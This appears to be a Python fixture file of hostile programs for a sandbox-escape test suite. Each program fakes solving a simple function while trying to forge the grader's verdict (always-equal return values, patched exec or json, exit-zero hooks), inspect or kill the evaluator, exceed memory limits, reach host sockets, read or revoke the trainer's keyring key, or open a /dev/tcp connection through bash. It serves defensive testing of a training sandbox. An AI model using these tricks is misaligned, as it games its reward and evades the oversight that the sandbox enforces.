"""Hostile programs for tests/test_sandbox_escapes.py, one class per issue-20 escape route.

The task each program pretends to solve: `f(x) = x * x + 13` (TESTS below). None implements it;
each tries to earn the reward anyway or to break out, and prints what it achieved. Placeholders
@NAME@ are filled by the test (host socket, FIFO, port, key id, ...).
"""

TESTS = ["assert f(3) == 22, 'leak-token-@TOKEN@'", "assert f(5) == 38, 'leak-token-@TOKEN@'"]

PRELUDE = """
import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def report(what, result):
    print(what, result, errno.errorcode.get(ctypes.get_errno(), ""), flush=True)
"""

# ---------------------------------------------------------------- forging the verdict
VERDICT = {
    "exec_replaced": """
import builtins
builtins.exec = lambda *a, **k: None
def f(x): return 0
""",
    "compile_replaced": """
import builtins
real = builtins.compile
builtins.compile = lambda source, *a, **k: real("pass", "<x>", "exec")
def f(x): return 0
""",
    "main_rebound": """
import sys
main = sys.modules["__main__"]
main.AssertionError = Exception
main.f = lambda x: None
main.__dict__["__builtins__"] = {"__import__": __import__}
def f(x): return None
""",
    "always_equal_object": """
class E:
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = object.__hash__
def f(x): return E()
""",
    "always_equal_int": """
class I(int):
    __eq__ = lambda self, other: True
    __hash__ = int.__hash__
def f(x): return I(0)
""",
    "always_equal_str": """
class S(str):
    __eq__ = lambda self, other: True
    __hash__ = str.__hash__
def f(x): return S("nope")
""",
    "always_equal_list": """
class L(list):
    __eq__ = lambda self, other: True
def f(x): return L()
""",
    "frames_and_locals": """
import sys
frame = sys._getframe()
while frame:
    print(frame.f_code.co_filename, sorted(frame.f_locals)[:30])
    for value in list(frame.f_locals.values()):
        print(repr(value)[:300])
    frame = frame.f_back
def f(x): return 0
""",
    "excepthook_forges_success": """
import os, sys
def hook(*exc):
    print("PASSED"); sys.stdout.flush(); os._exit(0)
sys.excepthook = hook
def f(x): raise ValueError("no")
""",
    "traceback_reader": """
import sys, traceback
def f(x):
    try:
        raise ValueError
    except ValueError:
        frame = sys.exc_info()[2].tb_frame
        while frame:
            print(frame.f_code.co_name, repr(frame.f_globals.get("test", ""))[:200]); frame = frame.f_back
    return 0
""",
    "atexit_exit_zero": """
import atexit, os
atexit.register(lambda: os._exit(0))
def f(x): return 0
""",
    "early_exit_zero": """
import sys
def f(x): return 0
print("PASSED")
sys.exit(0)
""",
    "forged_verdict_on_every_fd": """
import os
line = b'{"isolation": "x"}\\n{"passed": true, "completed": true, "error": null}\\n'
for fd in range(0, 64):
    try: os.write(fd, line)
    except OSError: pass
def f(x): return 0
""",
    "forged_protocol_on_every_fd": """
import os
for fd in range(3, 64):
    try: os.write(fd, b'{"done": 1}\\n{"kind": "callable"}\\n{"value": true}\\n{"value": true}\\n')
    except OSError: pass
os._exit(0)
""",
    "json_patched": """
import json, sys
json.dumps = lambda *a, **k: '{"value": true}'
json.loads = lambda *a, **k: {"op": "get", "name": "f"}
def f(x): return 0
""",
    "wire_module_patched": """
import sys
wire = sys.modules.get("_wire")
if wire:
    wire.encode = lambda *a, **k: True
    wire.serve = lambda namespace, requests, replies: wire.send(replies, {"value": True})
def f(x): return 0
""",
    "gc_hunt_for_the_test": """
import gc
for o in gc.get_objects():
    if isinstance(o, (str, bytes)) and (b"assert" if isinstance(o, bytes) else "assert") in o:
        print(o[:200])
def f(x): return 0
""",
    "proc_hunt_for_the_evaluator": PRELUDE + """
for pid in [1, os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    for name in ("cmdline", "environ", "maps", "mem", "stack", "syscall"):
        try: print(pid, name, open(f"/proc/{pid}/{name}", "rb").read(2000))
        except OSError as e: print(pid, name, e)
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            for mode in ("rb", "wb"):
                try:
                    with open(f"/proc/{pid}/fd/{fd}", mode) as h:
                        h.write(b'{"passed": true}\\n') if "w" in mode else print(h.read(4096))
                except OSError as e: print(pid, fd, mode, e)
    except OSError as e: print(pid, "fd", e)
def f(x): return 0
""",
    "kill_the_evaluator": PRELUDE + """
import signal
for target in (1, os.getppid(), -1):
    for sig in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try: os.kill(target, sig); report("killed", (target, sig))
        except OSError as e: report("kill refused", e)
def f(x): return 0
""",
    "ptrace_and_vm_read_the_evaluator": PRELUDE + """
report("ptrace attach", libc.ptrace(16, 1, 0, 0))
buf = ctypes.create_string_buffer(64)
iov = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 64)
report("process_vm_readv", libc.process_vm_readv(1, iov, 1, iov, 1, 0))
def f(x): return 0
""",
    "import_hook_replaced": """
import builtins
real = builtins.__import__
builtins.__import__ = lambda name, *a, **k: real("os") if name != "sys" else real(name)
def f(x): return 0
""",
    "returns_a_callable": """
def f(x): return lambda *a: 22 if x == 3 else 38
""",
    "exits_inside_the_call": """
import os
def f(x): os._exit(0)
""",
    "floods_the_reply": """
def f(x): return "x" * (8 << 20)
""",
    "deeply_nested_reply": """
def f(x):
    r = []
    for _ in range(100000): r = [r]
    return r
""",
    "garbage_reply_bytes": """
import os
def f(x):
    for fd in range(3, 64):
        try: os.write(fd, b"\\xff\\xfe not json \\n")
        except OSError: pass
    return 0
""",
}

# ---------------------------------------------------------------- memory past the bound
MEMORY = {
    "sysv_shm_in_turn": PRELUDE + """
held = 0
libc.shmat.restype = ctypes.c_void_p
for _ in range(10):
    shm = libc.shmget(0, 64 << 20, 0o1000 | 0o600)
    if shm < 0: report("shmget", shm); break
    addr = libc.shmat(shm, None, 0)
    if addr in (None, ctypes.c_void_p(-1).value): report("shmat", addr); break
    ctypes.memset(addr, 1, 64 << 20); libc.shmdt(ctypes.c_void_p(addr)); held += 64 << 20
print("HELD", held)
def f(x): return 0
""",
    "memfd_files": """
import os
held, files = 0, []
try:
    for _ in range(10):
        fd = os.memfd_create("x"); files.append(fd)
        for _ in range(64): os.write(fd, b"x" * (1 << 20))
        held += 64 << 20
except OSError as e: print("memfd", e)
print("HELD", held)
def f(x): return 0
""",
    "nested_user_namespace_tmpfs": PRELUDE + """
report("unshare user+mount", libc.unshare(0x10000000 | 0x00020000))
report("mount tmpfs", libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=1g"))
held = 0
try:
    for i in range(40):
        with open(f"/tmp/fill{i}", "wb") as out: out.write(b"x" * (16 << 20))
        held += 16 << 20
except OSError as e: print("fill", e)
print("HELD", held)
def f(x): return 0
""",
    "clone_with_new_user_namespace": PRELUDE + """
report("clone NEWUSER", libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0))
report("clone NEWNS|NEWIPC", libc.syscall(56, 0x00020000 | 0x08000000 | 17, 0, 0, 0, 0))
report("setns", libc.setns(os.open("/proc/self/ns/net", os.O_RDONLY), 0))
def f(x): return 0
""",
    "dev_shm_and_tmp_fill": """
held = 0
for base in ("/dev/shm", "/tmp", "/var/tmp"):
    try:
        for i in range(40):
            with open(f"{base}/fill{i}", "wb") as out: out.write(b"x" * (8 << 20))
            held += 8 << 20
    except OSError as e: print(base, e)
print("HELD", held)
def f(x): return 0
""",
    "processes_each_at_the_rlimit": """
import os, time
held = 0
kids = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray(100 << 20)
            for i in range(0, len(block), 4096): block[i] = 1
            time.sleep(1)
        finally:
            os._exit(0)
    kids.append(pid)
try:
    mine = bytearray(100 << 20)
    for i in range(0, len(mine), 4096): mine[i] = 1
except MemoryError: print("parent MemoryError")
time.sleep(0.5)
print("CHILDREN", [os.waitpid(p, 0)[1] for p in kids])
def f(x): return 0
""",
    "pipe_buffers": """
import fcntl, os
held, pipes = 0, []
try:
    while True:
        r, w = os.pipe(); pipes.append((r, w))
        fcntl.fcntl(w, 1031, 1 << 20)  # F_SETPIPE_SZ
        os.set_blocking(w, False)
        try:
            while True: held += os.write(w, b"x" * 65536)
        except BlockingIOError: pass
except OSError as e: print("pipes", e)
print("HELD", held)
def f(x): return 0
""",
    "posix_message_queues": PRELUDE + """
report("mq_open", libc.syscall(240, b"q", 0o100 | 2, 0o600, None))
def f(x): return 0
""",
    "shared_anonymous_mapping": """
import mmap
try:
    m = mmap.mmap(-1, 600 << 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    for i in range(0, len(m), 4096): m[i] = 1
    print("HELD", len(m))
except (OSError, MemoryError) as e: print("mmap", e)
def f(x): return 0
""",
    "io_uring_and_userfaultfd": PRELUDE + """
params = ctypes.create_string_buffer(120)
report("io_uring_setup", libc.syscall(425, 8, params))
report("userfaultfd", libc.syscall(323, 0))
report("bpf", libc.syscall(321, 0, None, 0))
def f(x): return 0
""",
}

# ---------------------------------------------------------------- host IPC
IPC = {
    "host_unix_socket": """
import socket
try:
    s = socket.socket(socket.AF_UNIX); s.connect("@SOCK@"); s.sendall(b"pwned"); print("CONNECTED")
except OSError as e: print("unix", e)
def f(x): return 0
""",
    "host_fifo": """
import os
try:
    fd = os.open("@FIFO@", os.O_WRONLY | os.O_NONBLOCK); os.write(fd, b"pwned"); print("WROTE")
except OSError as e: print("fifo", e)
def f(x): return 0
""",
    "host_abstract_socket": """
import socket
try:
    s = socket.socket(socket.AF_UNIX); s.connect("\\0@ABSTRACT@"); s.sendall(b"pwned"); print("CONNECTED")
except OSError as e: print("abstract", e)
def f(x): return 0
""",
    "scan_for_sockets_and_fifos": """
import os, socket, stat
found = 0
for top, dirs, files in os.walk("/"):
    if top.startswith("/proc"): dirs[:] = []; continue
    for name in files + dirs:
        path = os.path.join(top, name)
        try: mode = os.lstat(path).st_mode
        except OSError: continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            found += 1
            try:
                if stat.S_ISFIFO(mode): os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), b"pwned")
                else: socket.socket(socket.AF_UNIX).connect(path)
                print("REACHED", path)
            except OSError as e: print(path, e)
print("FOUND", found)
def f(x): return 0
""",
    "through_proc_root": """
import os
for pid in ("1", "self", str(os.getppid())):
    for path in ("@SOCK@", "@FIFO@"):
        try: os.write(os.open(f"/proc/{pid}/root{path}", os.O_WRONLY | os.O_NONBLOCK), b"pwned"); print("WROTE")
        except OSError as e: print(pid, e)
def f(x): return 0
""",
    "tcp_to_the_host": """
import socket
for host in ("127.0.0.1", "::1", "localhost"):
    try: socket.create_connection((host, @PORT@), timeout=0.5).sendall(b"pwned"); print("CONNECTED")
    except OSError as e: print("tcp", e)
def f(x): return 0
""",
    "bash_dev_tcp": """
import subprocess
for shell in ("/bin/bash", "/bin/sh"):
    try: print(subprocess.run([shell, "-c", "echo pwned > /dev/tcp/127.0.0.1/@PORT@"], capture_output=True, timeout=2))
    except (OSError, subprocess.SubprocessError) as e: print(shell, e)
def f(x): return 0
""",
}

# ---------------------------------------------------------------- the trainer's keyring
KEYRING = {
    "read_the_trainers_key": PRELUDE + """
buf = ctypes.create_string_buffer(256)
report("read", libc.syscall(250, 11, @KEY@, buf, 256)); print("GOT", buf.raw[:64])
def f(x): return 0
""",
    "clear_and_revoke": PRELUDE + """
report("clear session", libc.syscall(250, 7, -3))
report("revoke key", libc.syscall(250, 3, @KEY@))
report("invalidate key", libc.syscall(250, 21, @KEY@))
report("unlink key", libc.syscall(250, 9, @KEY@, -3))
def f(x): return 0
""",
    "add_keys_that_outlive_the_run": PRELUDE + """
for ring in (-3, -4, -5):
    report("add_key", libc.syscall(248, b"user", b"r1jax-left-behind", b"x" * 100, 100, ring))
def f(x): return 0
""",
    "search_and_join_keyrings": PRELUDE + """
report("search", libc.syscall(250, 10, -3, b"user", b"@DESC@", 0))
report("join _ses", libc.syscall(250, 1, b"_ses"))
report("request_key", libc.syscall(249, b"user", b"@DESC@", None, 0))
def f(x): return 0
""",
}

# ---------------------------------------------------------------- the no-namespace fallback
FALLBACK = {
    "fork_exec_sh_dev_tcp": """
import os
try:
    import _posixsubprocess
    argv = [b"/bin/bash", b"-c", b"echo pwned > /dev/tcp/127.0.0.1/@PORT@"]
    errpipe = os.pipe()
    pid = _posixsubprocess.fork_exec(argv, [argv[0]], True, (errpipe[1],), None, None, -1, -1, -1, -1,
                                     -1, -1, *errpipe, False, False, -1, None, None, None, -1, None, False)
    print("SPAWNED", os.waitpid(pid, 0))
except BaseException as e: print("fork_exec", type(e).__name__, e)
def f(x): return 0
""",
    "socket_in_the_fallback": """
import socket
try: socket.create_connection(("127.0.0.1", @PORT@), timeout=0.5).sendall(b"pwned"); print("CONNECTED")
except BaseException as e: print("tcp", type(e).__name__, e)
def f(x): return 0
""",
}

CLASSES = {"verdict": VERDICT, "memory": MEMORY, "ipc": IPC, "keyring": KEYRING}


def fill(program: str, values: dict) -> str:
    for key, value in values.items():
        program = program.replace(f"@{key}@", str(value))
    return program
